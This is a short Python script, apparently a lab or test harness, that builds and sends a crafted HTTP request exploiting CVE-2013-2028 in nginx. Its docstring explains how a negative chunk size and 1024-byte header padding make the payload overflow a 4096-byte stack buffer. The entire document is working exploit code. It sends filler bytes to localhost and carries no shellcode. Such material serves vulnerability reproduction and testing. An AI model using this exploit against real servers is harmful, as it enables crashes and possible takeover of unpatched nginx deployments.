#!/usr/bin/env python3
"""CVE-2013-2028 request for nginx: print it (--print) or send it.

A GET of a static file with "Transfer-Encoding: chunked" and the chunk
size FFFFFFFFFFFFFFED (-19 as off_t).  The header plus the chunk-size line
are padded to exactly 1024 bytes (client_header_buffer_size), so nginx's
first recv() ends right after the chunk-size line: the discard filter
then sets content_length_n = -19 + 4 and the next recv() goes into the
4096-byte stack buffer with size (size_t) -15.  The PAYLOAD bytes after it
are what overflow the buffer.

usage: attack.py --print [PAYLOAD]      the raw request on stdout
       attack.py PORT [PAYLOAD]         send it, print the answer's status
"""
import socket, sys

HEADER_BUFFER = 1024


def request(payload=8192):
    head = ("GET /index.html HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            "Transfer-Encoding: chunked\r\n")
    chunk = "FFFFFFFFFFFFFFED\r\n"
    fixed = len(head) + len("X-Pad: \r\n\r\n") + len(chunk)
    pad = "X-Pad: " + "p" * (HEADER_BUFFER - fixed) + "\r\n\r\n"
    raw = (head + pad + chunk).encode()
    assert len(raw) == HEADER_BUFFER
    return raw + b"A" * payload


def main():
    if sys.argv[1] == "--print":
        sys.stdout.buffer.write(request(int(sys.argv[2]) if len(sys.argv) > 2 else 8192))
        return
    port = int(sys.argv[1])
    payload = int(sys.argv[2]) if len(sys.argv) > 2 else 8192
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.sendall(request(payload))
    data = b""
    try:
        while True:
            d = s.recv(65536)
            if not d:
                break
            data += d
    except (socket.timeout, ConnectionResetError):
        pass
    s.close()
    line = data.split(b"\r\n", 1)[0].decode("latin-1") if data else "no answer"
    print(line)


if __name__ == "__main__":
    main()
